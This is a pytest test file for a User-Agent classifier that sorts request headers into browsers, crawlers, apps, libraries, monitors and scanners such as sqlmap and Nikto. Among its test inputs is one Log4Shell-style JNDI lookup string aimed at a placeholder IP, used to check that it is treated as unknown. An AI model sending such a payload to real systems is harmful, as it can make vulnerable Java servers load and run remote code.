"""What a User-Agent says its sender is: people, apps, libraries, and every kind of machine, quickly and whatever was sent."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cfkit.lookups import agents
from cfkit.lookups.agents import Agent, classify

CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36"


def said(agent: str) -> Agent:
    return next(classify([agent]))


@pytest.mark.parametrize(
    ("agent", "kind", "family"),
    [
        (CHROME, "browser", "Chrome"),
        (CHROME + " Edg/145.0", "browser", "Edge"),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "browser", "Firefox"),
        ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 "
         "Safari/604.1", "browser", "Safari"),
        ("Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.16", "browser", "Opera"),
        ("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; .NET CLR 3.5.30729)", "browser", "Internet Explorer"),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "crawler", "Googlebot"),
        ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; GPTBot/1.3; +https://openai.com/gptbot", "ai_crawler", "GPTBot"),
        ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "preview", "facebookexternalhit"),
        ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "monitor", None),
        ("uptime-watch/3.4 (+https://watch.example)", "monitor", "uptime-watch"),
        ("UniversalFeedParser/4.2 +http://feedparser.org/", "feed_reader", "UniversalFeedParser"),
        ("curl/8.5.0", "library", "curl"),
        ("python-requests/2.32.3", "library", "python-requests"),
        ("sqlmap/1.8#stable (https://sqlmap.org)", "scanner", "sqlmap"),
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", "scanner", "nikto"),
        ("AcmeShop/5.11.2 (Android 13; SM-A546B) okhttp/4.12.0", "app", "AcmeShop"),
        ("okhttp/4.12.0", "library", "OkHttp"),
        ("AcmeShop/5090 CFNetwork/1568.300.101 Darwin/24.2.0", "app", "AcmeShop"),
        ("somebot/0.1", "crawler", "somebot"),
        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 HeadlessChrome/120.0 Safari/537.36", "automation", "HeadlessChrome"),
        ("-", "none", None),
        (" ", "none", None),
        ("${jndi:ldap://198.51.100.77/a}", "unknown", None),
    ],
)  # fmt: skip
def test_an_agent_is_what_it_says_it_is(agent: str, kind: str, family: str | None) -> None:
    assert said(agent).kind == kind
    assert family is None or said(agent).family == family


@pytest.mark.parametrize("agent", [CHROME + " hydration/1.0", CHROME + " katanas", "Mozilla/5.0 (Windows NT 10.0) rubyred Firefox/140.0"])
def test_a_word_that_only_holds_a_tools_name_is_not_the_tool(agent: str) -> None:
    assert said(agent).kind == "browser"


def test_every_published_instance_of_a_crawler_is_recognised_and_no_browser_is() -> None:
    instances = [each for entry in agents._crawlers() for each in entry["instances"]]
    assert len(instances) > 2_000
    missed = [
        each for each, agent in zip(instances, classify(instances), strict=True) if agent.kind in ("browser", "unknown", "none", "app")
    ]
    assert missed == []


@given(st.text())
def test_anything_is_of_one_of_the_kinds(agent: str) -> None:
    assert said(agent).kind in agents.KINDS


@pytest.mark.parametrize("start", ["(" * 2_000, "a" * 2_000, "bot " * 500, CHROME + " " * 2_000])
def test_of_an_endless_agent_only_the_beginning_is_looked_at(start: str) -> None:
    assert said(start + " sqlmap/1.8 Googlebot/2.1" * 100_000) == said(start[: agents.LONGEST])
